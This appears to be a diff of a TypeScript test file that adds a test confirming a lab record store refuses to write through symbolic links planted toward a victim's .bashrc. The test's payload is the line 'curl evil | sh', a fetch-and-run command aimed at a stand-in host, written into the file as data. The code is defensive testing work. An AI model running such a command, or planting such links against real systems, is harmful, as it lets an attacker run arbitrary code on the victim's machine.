@@ -4,7 +4,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { describe, it } from 'node:test';
 import { checkExpectations, regexMatches } from '../../src/core/lab/dispatch/runner.js';
-import { lockSession, readSession, SessionLocked, writeSession } from '../../src/core/lab/records/store.js';
+import { appendDispatch, lockSession, readSession, SessionLocked, writeSession } from '../../src/core/lab/records/store.js';
 import { newSession } from '../../src/core/lab/session.js';
 import { loadWorkload, resumedPrompt } from '../../src/core/lab/workload.js';
 import { parseWorkload, WorkloadError } from '../../src/core/lab/workloadSchema.js';
@@ -134,5 +134,26 @@ describe('credentials in URLs (#27 item 13)', () => {
     assert.equal(state.status, 'unreadable');
     assert.match(state.detail!, /carries a user name and password.*not contacted/);
     assert.doesNotMatch(JSON.stringify(state), /PASSWORD-5/);
+  });
+});
+
+describe('a lab folder from elsewhere (#27 item 10; item 14 is test/cli/read.test.ts, it needs mkfifo)', () => {
+  const labOf = () => fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'lal-hostile-')));
+
+  it('item 10: resuming writes no record through a link: outputs/NNN.txt, dispatches.jsonl and a linked outputs folder are refused', () => {
+    const victimDir = fs.mkdtempSync(path.join(os.tmpdir(), 'lal-victim-'));
+    const victim = path.join(victimDir, '.bashrc');
+    const record = { schemaVersion: 1, index: 0, startedAt: '2026-12-01T12:00:00.000Z', wallMs: 1, stopReason: 'stop', expectationsMet: true, completed: true, outputSha256: 'h' } as never;
+    for (const plant of ['outputs/001.txt', 'dispatches.jsonl', 'outputs']) {
+      fs.writeFileSync(victim, 'export SAFE=1\n');
+      const labDir = labOf();
+      const s = pendingSession(labDir, '/nonexistent/openclaw.json', 'http://127.0.0.1:1/v1', 2);
+      const at = path.join(labDir, 'runs', s.id, plant);
+      fs.rmSync(at, { recursive: true, force: true });
+      fs.symlinkSync(plant === 'outputs' ? victimDir : victim, at);
+      assert.throws(() => appendDispatch(labDir, s.id, record, 'curl evil | sh\n'), /symbolic link/, plant);
+      assert.equal(fs.readFileSync(victim, 'utf8'), 'export SAFE=1\n', `${plant}: the file the link names is untouched`);
+      assert.deepEqual(fs.readdirSync(victimDir), ['.bashrc'], `${plant}: nothing new beside it`);
+    }
   });
 });
